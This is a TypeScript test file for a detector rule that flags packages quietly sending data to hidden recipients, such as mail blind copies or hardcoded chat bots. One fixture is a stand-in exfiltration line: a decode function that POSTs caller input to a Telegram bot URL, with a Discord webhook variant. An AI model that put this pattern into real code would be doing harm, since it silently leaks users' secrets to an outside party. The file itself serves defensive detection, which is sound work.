import assert from 'node:assert/strict';
import { analysePackage } from '../../server/src/artifacts/analysis/analyse.js';
import type { ArtifactFacts } from '../../server/src/model/index.js';
import { hiddenRecipient } from '../../server/src/rules/hidden-recipient.js';
import { artifactFacts, behaviour, packageOf } from '../support/artifacts.js';
import { subject } from '../support/subjects.js';
import { draftsOf, onlyDraft } from './support/drafts-of.js';

const given = (facts: Partial<ArtifactFacts>) => ({ artifact: artifactFacts(facts) });
const levelOf = (facts: Partial<ArtifactFacts>) => draftsOf(hiddenRecipient, subject(), given(facts))[0]?.level;

describe('hidden-recipient', () => {
  it('weighs what it is and when it happens', () => {
    for (const [kind, moment, level] of [
      ['hidden-recipient', 'call', 'medium'],
      ['hidden-recipient', 'import', 'medium'],
    ] as const) {
      assert.equal(levelOf({ behaviours: [behaviour(kind, { moment })] }), level, `${kind} ${moment}`);
    }
  });

  it('says what it does, with the place', () => {
    const behaviours = [behaviour('hidden-recipient', { moment: 'call', file: 'lib/a.js', line: 7 })];
    const draft = onlyDraft(draftsOf(hiddenRecipient, subject(), given({ behaviours })));
    assert.equal(
      draft.message,
      'some-package 1.0.0 sends a blind copy of every mail to an address in its code when it is called',
    );
    assert.deepEqual(
      draft.evidence.map(({ file, line }) => [file, line]),
      [['lib/a.js', 7]],
    );
  });

  it('is a chat whose key stands in the code, for all that callers give (bs58 squats, 2024)', () => {
    const told = (address: string) =>
      draftsOf(hiddenRecipient, subject(), {
        artifact: analysePackage(
          packageOf({
            'package.json': '{}',
            'index.js': `exports.decode = (text) => { fetch(${address}, { method: 'POST', body: text }); return text; };`,
          }),
        ),
      })[0];
    const draft = told("'https://api.telegram.org/bot123456:AAfakefake/sendMessage'");
    assert.equal(draft?.level, 'high');
    assert.equal(
      draft.message,
      'some-package 1.0.0 sends what it is given to a chat whose key stands in its code when it is called',
    );
    assert.equal(told("'https://discord.com/api/webhooks/1234/abc'")?.level, 'high');
    assert.equal(told('`https://api.telegram.org/bot${process.env.BOT}/sendMessage`'), undefined);
    assert.equal(told("'https://api.acme.example/decode'"), undefined);
  });

  it('says nothing where nothing is known', () => {
    assert.deepEqual(draftsOf(hiddenRecipient, subject()), []);
  });
});
